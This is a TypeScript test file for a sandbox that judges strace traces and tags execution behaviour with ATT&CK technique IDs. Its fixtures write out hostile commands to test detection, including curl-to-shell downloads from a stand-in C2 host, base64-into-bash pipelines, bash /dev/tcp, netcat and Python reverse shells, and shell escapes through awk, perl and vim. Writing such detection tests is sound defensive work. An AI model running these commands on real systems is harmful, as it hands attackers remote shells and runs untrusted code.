import { spawnSync } from 'node:child_process';
import { describeRules } from './rule-table';
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parseAgentConfig } from '../../../lambdas/core/contracts/agent-config';
import { straceArguments } from '../../../container/agent/run';
import { judgeTrace } from '../judge';
import { HOME, SAMPLE, Trace } from './trace';

/**
 * Execution rules: what runs a file tells a dropper from a build by where the file came from
 * (downloaded, compiled, copied, written), and interpreters are named by the sub-technique they prove.
 */

const DROPPED = `${HOME}/.cache/update`;

describe('running what was downloaded or written', () => {
  it('a file curl downloaded and the sample then runs is ingress tool transfer (T1105), not a mere drop', () => {
    const ids = new Trace()
      .run(701, '/usr/bin/curl', ['curl', '-o', DROPPED, 'http://c2.example.test/update'])
      .create(701, DROPPED)
      .run(702, DROPPED, ['update'])
      .ids();
    expect(ids.get('execution.downloaded-file')).toEqual(['T1105']);
    expect(ids.has('execution.dropped-file')).toBe(false);
  });

  it('bytes a process received over the network and wrote out are downloaded too, and stay so when copied', () => {
    const ids = new Trace()
      .run(701, '/usr/bin/python3', ['python3', 'fetch.py'])
      .connect(701, '203.0.113.5', 80)
      .create(701, `${HOME}/payload.bin`)
      .run(702, '/bin/cp', ['cp', 'payload.bin', '/tmp/p'])
      .open(702, `${HOME}/payload.bin`)
      .create(702, '/tmp/p')
      .run(703, '/bin/sh', ['sh', '/tmp/p'])
      .ids();
    expect(ids.get('execution.downloaded-file')).toEqual(['T1105']);
  });

  it.each([
    ['/tmp', '/tmp/.x/stage2'],
    ['/dev/shm', '/dev/shm/k'],
    ['a hidden directory of its home', `${HOME}/.cache/.sys/upd`],
    ['a dot-named file', `${HOME}/.stage2`],
  ])('a file the sample wrote into %s and runs is a staged payload (no technique of its own)', (_, path) => {
    const ids = new Trace().create(SAMPLE, path).run(701, path, [path]).ids();
    expect(ids.get('execution.dropped-file')).toEqual([]);
    expect(ids.has('execution.written-file')).toBe(false);
  });

  it('an installer running the script it wrote into its own tree is low context, not a staged payload', () => {
    const judged = judgeTrace(
      new Trace()
        .create(SAMPLE, `${HOME}/hello-1.2/configure`)
        .run(701, `${HOME}/hello-1.2/configure`, ['./configure'])
        .text(),
    );
    expect(judged.ids.has('execution.dropped-file')).toBe(false);
    expect(judged.behavior.execution).toEqual([
      expect.objectContaining({ id: 'execution.written-file', severity: 'low' }),
    ]);
  });

  it.each([
    ['a test binary the linker produced', '/usr/bin/ld', `${HOME}/build/unit_tests`],
    ['a program cp copied out of its own payload into its prefix', '/bin/cp', `${HOME}/.local/bin/tool`],
    ['a Go test binary', '/usr/lib/go/pkg/tool/linux_amd64/link', '/tmp/go-build1/b001/pkg.test'],
  ])('stays silent for %s', (_, writer, binary) => {
    const ids = new Trace()
      .run(701, writer, [writer.split('/').pop() as string])
      .open(701, `${HOME}/payload/tool`)
      .create(701, binary)
      .run(702, binary, [binary])
      .ids();
    for (const id of ['execution.dropped-file', 'execution.downloaded-file', 'execution.written-shell-script'])
      expect(ids.has(id), id).toBe(false);
  });

  it('a downloaded archive that is never run raises only the low downloader indicator', () => {
    const { behavior } = judgeTrace(
      new Trace()
        .run(701, '/usr/bin/curl', ['curl', '-LO', 'https://pkg.example.test/lib-1.2.tar.gz'])
        .create(701, `${HOME}/lib-1.2.tar.gz`)
        .text(),
    );
    expect(behavior.execution.map((i) => [i.id, i.severity, i.attack])).toEqual([
      ['execution.downloader', 'low', ['T1105']],
    ]);
  });
});

describe('scripts the sample wrote, run through an interpreter', () => {
  it.each([
    ['sh ./x.sh', '/bin/sh', ['sh', './x.sh'], `${HOME}/x.sh`, 'execution.written-shell-script', 'T1059.004'],
    [
      'bash -e stage2 (no extension)',
      '/bin/bash',
      ['bash', '-e', 'stage2'],
      `${HOME}/stage2`,
      'execution.written-shell-script',
      'T1059.004',
    ],
    ['sh /tmp/x.sh', '/bin/sh', ['sh', '/tmp/x.sh'], '/tmp/x.sh', 'execution.written-shell-script', 'T1059.004'],
    [
      'python3 dropped.py',
      '/usr/bin/python3',
      ['python3', 'dropped.py'],
      `${HOME}/dropped.py`,
      'execution.written-python-script',
      'T1059.006',
    ],
  ])('%s', (_, interpreter, argv, script, id, technique) => {
    const ids = new Trace().create(SAMPLE, script).run(701, interpreter, argv).ids();
    expect(ids.get(id)).toEqual([technique]);
  });

  it('a script an installer copied out of its own payload and runs is not a written script', () => {
    const ids = new Trace()
      .run(701, '/bin/cp', ['cp', 'payload/post-install.sh', '.local/share/app/'])
      .open(701, `${HOME}/payload/post-install.sh`)
      .create(701, `${HOME}/.local/share/app/post-install.sh`)
      .run(702, '/bin/sh', ['sh', `${HOME}/.local/share/app/post-install.sh`])
      .ids();
    expect(ids.has('execution.written-shell-script')).toBe(false);
    expect(ids.has('execution.dropped-file')).toBe(false);
  });

  it.each([
    ['a script shipped with the sample (not written by it)', ['sh', './configure']],
    ['an inline command', ['sh', '-c', 'echo x.sh']],
    ['a module run with -m', ['python3', '-m', 'x']],
    ["autoconf's generated config.status", ['sh', './config.status']],
  ])('stays silent for %s', (_, argv) => {
    const ids = new Trace()
      .create(SAMPLE, `${HOME}/x`)
      .create(SAMPLE, `${HOME}/config.status`)
      .run(701, argv[0] === 'sh' ? '/bin/sh' : '/usr/bin/python3', argv)
      .ids();
    expect(ids.has('execution.written-shell-script')).toBe(false);
    expect(ids.has('execution.written-python-script')).toBe(false);
  });
});

describe('downloads and decoded payloads piped into interpreters', () => {
  it('curl piped into a shell is T1105 and T1059.004', () => {
    const ids = new Trace().run(701, '/bin/sh', ['sh', '-c', 'curl -fsSL http://c2.example.test/i.sh | sh']).ids();
    expect(ids.get('execution.download-into-shell')).toEqual(['T1105', 'T1059.004']);
  });

  it("a script's own `curl URL | sh` pipeline (curl and a stdin shell side by side) is too", () => {
    const ids = new Trace()
      .run(701, '/usr/bin/curl', ['curl', '-fsSL', 'http://c2.example.test/i.sh'])
      .run(702, '/bin/sh', ['sh'])
      .ids();
    expect(ids.get('execution.download-into-shell')).toEqual(['T1105', 'T1059.004']);
    expect(ids.has('execution.decoded-shell')).toBe(false);
  });

  it('a shell redirection of curl into a file makes that file downloaded', () => {
    const ids = new Trace('/bin/sh')
      .fork(SAMPLE, 701)
      .create(701, '/tmp/agent')
      .exec(701, '/usr/bin/curl', ['curl', '-s', 'http://c2.example.test/agent'])
      .run(702, '/tmp/agent', ['/tmp/agent'])
      .ids();
    expect(ids.get('execution.downloaded-file')).toEqual(['T1105']);
    expect(ids.has('execution.dropped-file')).toBe(false);
  });

  it('curl saving with -o leaves the file the shell last opened as written', () => {
    const ids = new Trace('/bin/sh')
      .create(SAMPLE, `${HOME}/tool`)
      .run(701, '/usr/bin/curl', ['curl', '-o', 'page.html', 'http://www.example.test/'])
      .run(702, `${HOME}/tool`, ['./tool'])
      .ids();
    expect(ids.has('execution.downloaded-file')).toBe(false);
  });

  it('curl piped into a JSON filter is not', () => {
    const ids = new Trace().run(701, '/bin/sh', ['sh', '-c', 'curl -fsSL http://api.example.test/v1 | jq .name']).ids();
    expect(ids.has('execution.download-into-shell')).toBe(false);
  });

  it("base64 -d and a shell reading stdin, forked side by side, run decoded text in a shell (T1059.004; the decoding is evasion's T1140)", () => {
    const ids = new Trace().run(701, '/usr/bin/base64', ['base64', '-d']).run(702, '/bin/sh', ['sh']).ids();
    expect(ids.get('execution.decoded-shell')).toEqual(['T1059.004']);
  });

  it('a decoding pipeline into bash inside one command line is too', () => {
    const ids = new Trace().run(701, '/bin/sh', ['sh', '-c', 'echo ZWNobyBoaQ== | base64 --decode | bash']).ids();
    expect(ids.get('execution.decoded-shell')).toEqual(['T1059.004']);
  });

  it('decoding alone is only the low decoder indicator (T1140)', () => {
    const { behavior } = judgeTrace(new Trace().run(701, '/usr/bin/base64', ['base64', '-d', 'blob.b64']).text());
    expect(behavior.execution.map((i) => [i.id, i.severity, i.attack])).toEqual([
      ['execution.decoder', 'low', ['T1140']],
    ]);
  });

  it.each([
    ['base32 -d', '/usr/bin/base32', ['base32', '-d', 'blob']],
    ['openssl enc -d -base64', '/usr/bin/openssl', ['openssl', 'enc', '-d', '-base64', '-in', 'blob']],
    ['uudecode', '/usr/bin/uudecode', ['uudecode', 'blob.uu']],
    ['python3 -c b64decode', '/usr/bin/python3', ['python3', '-c', "import base64;print(base64.b64decode('aGk='))"]],
    ['perl -e decode_base64', '/usr/bin/perl', ['perl', '-MMIME::Base64', '-e', 'print decode_base64("aGk=")']],
    ['php -r base64_decode', '/usr/bin/php', ['php', '-r', 'echo base64_decode("aGk=");']],
  ])('%s is a decoder (T1140)', (_, path, argv) => {
    expect(new Trace().run(701, path, argv).ids().get('execution.decoder')).toEqual(['T1140']);
  });

  it.each([
    ['base64 encoding', '/usr/bin/base64', ['base64', 'file']],
    ['openssl enc encrypting', '/usr/bin/openssl', ['openssl', 'enc', '-aes-256-cbc', '-in', 'f']],
    ['python3 -c encoding', '/usr/bin/python3', ['python3', '-c', "import base64;print(base64.b64encode(b'x'))"]],
    ['python3 running a script named decode', '/usr/bin/python3', ['python3', 'b64decode.py']],
  ])('%s is no decoder', (_, path, argv) => {
    expect(new Trace().run(701, path, argv).ids().has('execution.decoder')).toBe(false);
  });

  it('Python executing decoded code is T1059.006; printing it is not', () => {
    const run = (code: string) => new Trace().run(701, '/usr/bin/python3', ['python3', '-c', code]).ids();
    expect(run("import base64;exec(base64.b64decode('cHJpbnQoMSk='))").get('execution.decoded-python')).toEqual([
      'T1059.006',
    ]);
    expect(run("import base64;print(base64.b64decode('aGk='))").has('execution.decoded-python')).toBe(false);
  });
});

describe('reverse shells', () => {
  it.each([
    ['bash -i to /dev/tcp', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']],
    ['nc -e /bin/sh', ['nc', '-e', '/bin/sh', '203.0.113.7', '4444']],
    [
      'a fifo through nc',
      ['sh', '-c', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f'],
    ],
  ])('%s is T1059.004', (_, argv) => {
    const ids = new Trace().run(701, `/bin/${argv[0]}`, argv).ids();
    expect(ids.get('execution.reverse-shell')).toEqual(['T1059.004']);
  });

  it('a port check with nc is not a shell', () => {
    expect(
      new Trace().run(701, '/bin/nc', ['nc', '-z', 'db.example.test', '5432']).ids().has('execution.reverse-shell'),
    ).toBe(false);
  });

  it('Python wiring a socket to a pty-spawned shell is T1059.006', () => {
    const code =
      'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")';
    const ids = new Trace().run(701, '/usr/bin/python3', ['python3', '-c', code]).ids();
    expect(ids.get('execution.python-shell')).toEqual(['T1059.006']);
  });

  it('Python using pty or sockets otherwise is not', () => {
    for (const code of ['import pty; print(pty.STDIN_FILENO)', 'import socket; print(socket.gethostname())']) {
      expect(
        new Trace().run(701, '/usr/bin/python3', ['python3', '-c', code]).ids().has('execution.python-shell'),
      ).toBe(false);
    }
  });
});

describe('context rules', () => {
  it('running from /tmp is low context without a technique; from /usr/bin it is nothing', () => {
    const { behavior } = judgeTrace(new Trace().run(701, '/tmp/tool', ['tool']).text());
    expect(behavior.execution.find((i) => i.id === 'execution.world-writable')).toMatchObject({
      severity: 'low',
      attack: [],
    });
    expect(new Trace().run(701, '/usr/bin/tool', ['tool']).ids().has('execution.world-writable')).toBe(false);
  });

  it('setsid daemonises (low); a failed setsid does not', () => {
    expect(new Trace().call(SAMPLE, 'setsid()', '701').ids().has('execution.daemonize')).toBe(true);
    expect(
      new Trace().call(SAMPLE, 'setsid()', '-1 EPERM (Operation not permitted)').ids().has('execution.daemonize'),
    ).toBe(false);
  });

  it('ptrace of itself (PTRACE_TRACEME) is not injection', () => {
    expect(
      new Trace()
        .call(SAMPLE, 'ptrace(PTRACE_TRACEME)', '-1 EPERM (Operation not permitted)')
        .ids()
        .has('execution.injection'),
    ).toBe(false);
  });
});

describe('a child that strace prints before its fork returns', () => {
  // Recorded shape of `printf … > x.sh; sh ./x.sh` on a loaded machine: the child's exec comes
  // between the parent's `vfork( <unfinished ...>` and its return, so when the exec is read nothing
  // yet says whose child it is, nor in which directory `./x.sh` lies.
  it('runs a written script from the directory of the only fork under way', () => {
    const { ids, execs } = judgeTrace(
      new Trace()
        .create(SAMPLE, 'x.sh')
        .raw(SAMPLE, 'vfork( <unfinished ...>')
        .exec(701, '/usr/bin/sh', ['sh', './x.sh'])
        .raw(SAMPLE, '<... vfork resumed>) = 701')
        .text(),
    );
    expect(ids.get('execution.written-shell-script')).toEqual(['T1059.004']);
    expect(execs.find((e) => e.pid === 701)).toMatchObject({ cwd: HOME, parentExe: `${HOME}/s`, uid: 10001 });
  });

  /** The sample and a child of it (702) each in a fork when 701 runs `sh ./x.sh`; the child in `chdir`'s directory, if given. */
  const twoForksUnderWay = (chdir?: string) => {
    const trace = new Trace().create(SAMPLE, 'x.sh').fork(SAMPLE, 702);
    if (chdir) trace.call(702, `chdir("${chdir}")`);
    return judgeTrace(
      trace
        .raw(702, 'vfork( <unfinished ...>')
        .raw(SAMPLE, 'vfork( <unfinished ...>')
        .exec(701, '/usr/bin/sh', ['sh', './x.sh'])
        .raw(SAMPLE, '<... vfork resumed>) = 701')
        .raw(702, '<... vfork resumed>) = 703')
        .text(),
    );
  };

  it('with two forks under way from different directories, it does not guess the directory', () => {
    const { ids, execs } = twoForksUnderWay('/tmp');
    expect(execs.find((e) => e.pid === 701)?.cwd).toBeNull();
    expect(ids.has('execution.written-shell-script')).toBe(false);
  });

  it('with two forks under way from the same directory, the directory is known', () => {
    expect(twoForksUnderWay().ids.get('execution.written-shell-script')).toEqual(['T1059.004']);
  });
});

describe('under the real strace', () => {
  const dir = mkdtempSync(join(tmpdir(), 'sandtrap-exec-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('a script written then run as an argument, and a decoding pipeline into a shell, are seen as such', () => {
    const trace = join(dir, 'trace');
    const [strace, ...args] = straceArguments(parseAgentConfig({}, { allowInternet: false }), trace);
    const script = "printf 'echo staged\\n' > x.sh; sh ./x.sh; echo ZWNobyBkZWNvZGVkCg== | base64 -d | sh";
    const run = spawnSync(strace as string, [...args, '/bin/sh', '-c', script], { cwd: dir });
    expect(run.status).toBe(0);
    const { ids } = judgeTrace(readFileSync(trace, 'utf8'), { home: dir });
    expect(ids.get('execution.written-shell-script')).toEqual(['T1059.004']);
    expect(ids.get('execution.decoded-shell')).toEqual(['T1059.004']);
  });

  it("a downloader's output redirected by the shell into a file, then run, is a downloaded file", () => {
    // A stand-in named curl (a copy of cat) that "downloads" a local script: the shell opens the
    // redirection in its child before the child becomes curl, as it does for `curl URL > file`.
    copyFileSync('/bin/cat', join(dir, 'curl'));
    writeFileSync(join(dir, 'remote'), '#!/bin/sh\necho fetched\n');
    const trace = join(dir, 'trace-download');
    const [strace, ...args] = straceArguments(parseAgentConfig({}, { allowInternet: false }), trace);
    const run = spawnSync(
      strace as string,
      [...args, '/bin/sh', '-c', './curl < remote > agent; chmod +x agent; ./agent'],
      {
        cwd: dir,
      },
    );
    expect(run.status).toBe(0);
    const { ids } = judgeTrace(readFileSync(trace, 'utf8'), { home: dir });
    expect(ids.get('execution.downloaded-file')).toEqual(['T1105']);
    expect(ids.has('execution.dropped-file')).toBe(false);
  });
});

describeRules([
  {
    id: 'execution.shell-escape',
    attack: ['T1059.004'],
    positive: [
      ['runs awk with system("/bin/sh")', (s) => s.run(['awk', 'BEGIN {system("/bin/sh &")}'])],
      ['runs perl exec "/bin/sh"', (s) => s.run(['perl', '-e', 'exec "/bin/sh";'])],
      ['runs find -exec /bin/sh', (s) => s.run(['find', '.', '-exec', '/bin/sh', ';', '-quit'])],
      ['runs busybox sh', (s) => s.run(['busybox', 'sh'])],
      ['runs vim -c ":!/bin/sh"', (s) => s.run(['vim', '-c', ':!/bin/sh'])],
    ],
    benign: [
      ['runs awk calling ls', (s) => s.run(['awk', '{system("ls " $1)}', 'list.txt'])],
      ['runs find -exec sh -c', (s) => s.run(['find', '.', '-name', '*.sh', '-exec', 'sh', '-n', '{}', ';'])],
      ['runs busybox sh -c', (s) => s.run(['busybox', 'sh', '-c', 'echo hi'])],
      ['runs a shell with a script', (s) => s.run(['bash', './build.sh'])],
    ],
  },
]);
